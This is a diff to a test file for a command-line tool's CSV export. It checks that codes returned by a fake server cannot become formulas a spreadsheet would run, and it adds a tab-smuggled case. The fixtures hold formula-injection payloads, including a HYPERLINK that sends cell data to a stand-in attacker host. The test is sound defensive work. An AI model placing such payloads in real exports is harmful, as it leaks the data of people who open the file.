@@ -63,10 +63,10 @@ test('a non-JSON answer with a 200 is an error (exit 1), and stays one JSON obje
 
 test('`code create --out` writes no formula a spreadsheet would run, whatever the server sent as codes', async () => {
   const formula = '=HYPERLINK("http://evil.example/?"&A2,"open")';
-  const fake = serve(() => Response.json({ success: true, data: { batch: '-A1', quota: 5, expires_at: 2_000_000_000, codes: [formula, '@SUM(1;2)', 'gwr_ok'] } }));
+  const fake = serve(() => Response.json({ success: true, data: { batch: '-A1', quota: 5, expires_at: 2_000_000_000, codes: [formula, '@SUM(1;2)', 'gwr_ok', 'gwr_x\t=1+1'] } }));
   const out = `${sb.dir}/codes.csv`;
   try {
-    const r = await gwAt(fake.port, ['code', 'create', '--batch', 'b', '--count', '3', '--quota', '5', '--out', out]);
+    const r = await gwAt(fake.port, ['code', 'create', '--batch', 'b', '--count', '4', '--quota', '5', '--out', out]);
     expect(r.code).toBe(0);
     const lines = (await Bun.file(out).text()).trim().split('\n');
     expect(lines).toEqual([
@@ -74,6 +74,8 @@ test('`code create --out` writes no formula a spreadsheet would run, whatever th
       `"'=HYPERLINK(""http://evil.example/?""&A2,""open"")",'-A1,5,2000000000`,
       `"'@SUM(1;2)",'-A1,5,2000000000`,
       "gwr_ok,'-A1,5,2000000000",
+      // A tab is quoted: a spreadsheet splitting on tabs would start a cell '=1+1'.
+      `"gwr_x\t=1+1",'-A1,5,2000000000`,
     ]);
   } finally {
     fake.stop(true);
